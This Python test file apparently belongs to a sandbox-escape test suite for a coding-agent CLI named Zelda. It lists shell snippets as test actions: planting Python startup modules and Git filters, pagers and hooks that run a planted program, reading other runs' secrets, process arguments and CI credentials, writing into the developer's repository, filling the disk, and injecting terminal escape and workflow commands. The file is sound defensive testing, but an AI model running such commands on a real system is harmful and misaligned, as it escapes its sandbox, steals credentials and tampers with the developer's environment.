"""n: further ways into files, into Git and into what Zelda reads."""

from tests.hostile.action import Action, any_of, claimed, exists, holds, learned
from tests.hostile.repository import DEPUTY


def _planted_program(action: str) -> str:
    return f"""\
PLANT="$(pwd)/.{action}-plant"
printf '%s\\n' '#!/bin/sh' "LOOT='$WORLD/home/loot-{action}'" '{DEPUTY}' 'cat "$1" 2>/dev/null || cat' >"$PLANT"
chmod +x "$PLANT"
"""


def _patch_failed(after, _):
    """The session's changes are not known, or fill the disk."""
    return after.hung or (after.channel_ran and (not after.patches or max(map(len, after.patches)) > 64 << 20))


def _escaped(after, action):
    """A sequence of the session's own reaches the developer's terminal, or the log of a job, as it is."""
    return any(
        sign in after.printed for sign in (b"\x1b]52;", b"\x1b]0;n11", b"\n::add-mask::n11", b"\n::set-output name=n11")
    )


def _store_changed(after, _):
    return any(True for _ in after.world.base.glob("*/stores/*/objects/info/n04"))


ACTIONS = (
    Action(
        "n01",
        "a module that the developer's Python loads at every start, Zelda's too (usercustomize, .pth)",
        any_of(
            exists("home/.local/lib/python3.11/site-packages/usercustomize.py"),
            exists("home/.local/lib/python3.11/site-packages/n01.pth"),
        ),
        """\
for d in "$DEVHOME/.local/lib/python3.11/site-packages"; do
  mkdir -p "$d"; echo 'print("n01")' >"$d/usercustomize.py"; echo 'import n01' >"$d/n01.pth"; done
""",
    ),
    Action(
        "n02",
        "the run's own files beside the workspace: how the CLI is started, its environment",
        claimed,
        """\
for f in $(find "$BASE" -path '*/ws' -prune -o -path '*/git' -prune -o -path '*/home' -prune -o -path '*/tmp' -prune -o -path '*/stores' -prune \
    -o -path '*/0badcafe' -prune -o -type f -print 2>/dev/null); do printf '\\n' >>"$f" && claim; done
""",
    ),
    Action(
        "n03",
        "files of another run that is under way",
        learned("neighbour"),
        'find "$BASE" -name secret.txt -exec cat {} + | tell',
    ),
    Action(
        "n04",
        "the store of objects that all runs of this commit borrow from",
        _store_changed,
        'lent | while read -r o; do case "$o" in *stores*) chmod u+w "$o/info"; echo n04 >"$o/info/n04";; esac; done',
    ),
    Action(
        "n05",
        "borrow from the developer's objects, by objects/info/alternates",
        learned("stash"),
        """\
f="$(common)/objects/info/alternates"; cp "$f" n05-kept
echo "$PROJECT/.git/objects" >>"$f"
git cat-file --batch --batch-all-objects --buffer | tell
cat n05-kept >"$f"; rm n05-kept
""",
    ),
    Action(
        "n06",
        ".gitattributes with filter, textconv and merge driver: Zelda's own diff would run them",
        exists("home/loot-n06"),
        _planted_program("n06")
        + """\
printf '*.n06 filter=n06 diff=n06\\n' >>.gitattributes; echo n06 >file.n06
git config filter.n06.clean "$PLANT"; git config filter.n06.smudge "$PLANT"; git config filter.n06.process "$PLANT"
git config diff.n06.textconv "$PLANT"; git config diff.n06.command "$PLANT"
git config core.attributesFile "$(pwd)/.gitattributes"
""",
    ),
    Action(
        "n07",
        "a report behind a folder that is a link out of the workspace",
        lambda after, _: after.world.canaries["report"] in after.stored,
        'rm -rf reports/deep; mkdir -p reports; ln -sfn "$PROJECT/secret" reports/deep',
        channels=("build",),
    ),
    Action(
        "n08",
        "commit in the developer's repository, by --git-dir",
        lambda after, _: bool(after.world.git("for-each-ref", "refs/heads/n08")),
        'git --git-dir="$PROJECT/.git" update-ref refs/heads/n08 HEAD',
    ),
    Action(
        "n09",
        "programs in Git's configuration: diff.external, core.pager, core.sshCommand, hooks path, includes",
        exists("home/loot-n09"),
        _planted_program("n09")
        + """\
for k in diff.external core.pager core.sshCommand core.editor pager.diff interactive.diffFilter gpg.program uploadpack.packObjectsHook; do
  git config "$k" "$PLANT"; done
mkdir -p .n09-hooks; for h in post-index-change pre-commit post-checkout reference-transaction; do cp "$PLANT" ".n09-hooks/$h"; done
git config core.hooksPath "$(pwd)/.n09-hooks"; git config include.path "$(pwd)/.n09-included"
""",
    ),
    Action(
        "n10",
        "a sparse file of 1 TB among the changes",
        _patch_failed,
        "truncate -s 1T n10.bin || truncate -s 2G n10.bin; echo n10 >n10.txt",
    ),
    Action(
        "n11",
        "escape sequences and workflow commands in output and names of files",
        _escaped,
        """\
printf '\\033]52;c;bjEx\\a\\033]0;n11\\a\\n::add-mask::n11\\n::set-output name=n11::1\\n'
: >"$(printf 'n11-\\033]0;n11\\a.txt')"; : >"$(printf 'n11\\n::add-mask::n11')"
""",
    ),
    Action("n26", "arguments of the developer's processes", learned("argv"), "cat /proc/[0-9]*/cmdline | tell"),
    Action(
        "n32",
        "credentials that an earlier step of the job left in RUNNER_TEMP",
        learned("runner"),
        'cat "$WORLD"/runner/*.config | tell',
    ),
    Action(
        "n34",
        "results of an earlier run, made better in .zelda",
        holds("home/project/.zelda/n34.json", "n34"),
        'mkdir -p "$PROJECT/.zelda"; echo n34 >"$PROJECT/.zelda/n34.json"',
    ),
)
